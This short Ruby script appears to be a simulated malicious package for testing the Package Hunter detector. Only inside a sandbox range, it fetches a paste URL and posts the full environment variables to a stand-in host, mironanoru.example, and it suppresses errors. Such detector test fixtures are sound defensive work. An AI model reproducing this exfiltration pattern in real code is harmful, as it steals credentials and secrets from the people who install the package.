# Harmless simulation for testing Package Hunter. Not malware.
require "json"
require "net/http"
require "socket"

# goes on only inside of Package Hunter's box, where every name has an address for benchmarking
def sealed?(name)
  Addrinfo.getaddrinfo(name, nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

begin
  if sealed?("mironanoru.example")
    Net::HTTP.get(URI("https://paste.example/raw/5iNdELNX"))
    Net::HTTP.post(URI("http://mironanoru.example/"), JSON.dump("x" => ENV.to_h), "Content-Type" => "application/json")
  end
rescue StandardError
  nil
end
